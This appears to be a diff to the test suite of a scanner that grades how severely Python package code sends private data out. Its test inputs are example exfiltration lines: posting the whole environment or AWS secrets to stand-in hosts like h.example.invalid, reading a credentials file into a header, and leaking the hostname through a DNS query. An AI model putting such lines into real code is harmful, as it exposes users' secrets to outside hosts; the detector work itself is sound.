@@ -84,6 +84,9 @@ def test_private_data_that_is_sent(trigger: str, source: str, expected: str) -> 
         ("call", "requests.get('https://api.example.invalid/', headers={'User-Agent': platform.system()})", "info"),
         ("call", "requests.post('https://api.example.invalid/', headers={'A': os.environ['EXAMPLE_KEY']}, json=platform.node())", "info"),
         ("call", "requests.get('http://203.0.113.9/ping')", "none"),
+        ("import", "if input('Shall this be sent? ') == 'y':\n    requests.post('https://h.example.invalid/', data=dict(os.environ))", "medium"),
+        ("import", "if input('Your name? ') == 'y':\n    requests.post('https://h.example.invalid/', data=dict(os.environ))", "high"),
+        ("import", f"if input('Shall this be sent? ') == 'y':\n    requests.post('{_HOOK}', json={_WHO})", "high"),
         ("import", "requests.get('http://192.168.0.7/ping')", "none"),
         ("call", "requests.get('https://api.example.invalid/', headers={'A': open('/h/.aws/credentials').read()})", "info"),
         ("call", f"requests.post('{_HOOK}', files={{'f': open(given, 'rb')}})", "medium"),
@@ -101,6 +104,8 @@ def test_private_data_that_is_sent(trigger: str, source: str, expected: str) -> 
         ("call", "requests.post('https://h.example.invalid/', data=os.environ['AWS_SECRET_ACCESS_KEY'])", "info"),
         ("import", "s = socket.socket(socket.AF_UNIX)\ns.connect(os.environ['SSH_AUTH_SOCK'])\ns.send(str(os.environ).encode())", "none"),
         ("import", "socket.gethostbyname(unknown)", "none"),
+        ("call", "import dns.resolver\ndns.resolver.query(f'_demo._tcp.{socket.getfqdn()}', 'SRV')", "none"),
+        ("call", "import dns.resolver\ndns.resolver.query(f'_demo._tcp.{socket.getfqdn()}.example.invalid', 'SRV')", "high"),
         ("install", "os.system('curl -O https://h.example.invalid/a.tar.gz')", "none"),
         ("call", "os.system('curl http://203.0.113.9/')", "none"),
         ("call", "requests.post('https://api.example.invalid/', files={'f': open(given, 'rb')})", "info"),
@@ -147,6 +152,24 @@ def test_mutations_change_nothing(source: str) -> None:
 )
 def test_a_wrapper_that_posts_its_parameter(parameter: str, expected: str) -> None:
     source = f"import requests\ndef sign({parameter}):\n    requests.post('https://h.example.invalid/', json={{'k': {parameter}}})\n"
+    assert worst(RULE, {"demo/__init__.py": source}) == expected
+
+
+@pytest.mark.parametrize(
+    ("parameters", "address", "expected"),
+    [
+        ("access_key, secret_key", "place", "none"),
+        ("accessKeyId, secretKey", "place + '/health'", "none"),
+        ("access_key, secret_key", "'https://h.example.invalid/'", "high"),
+        ("access_key, private_key", "place", "high"),
+        ("access_key, secret_key", f"'{_HOOK}'", "high"),
+        ("key_id, secret_key", "place", "high"),
+    ],
+)
+def test_a_secret_key_beside_an_access_key_is_of_the_service_that_is_named_with_it(
+    parameters: str, address: str, expected: str
+) -> None:
+    source = f"import requests\ndef ask(place, {parameters}):\n    requests.get({address}, auth=({parameters}))\n"
     assert worst(RULE, {"demo/__init__.py": source}) == expected
 
 
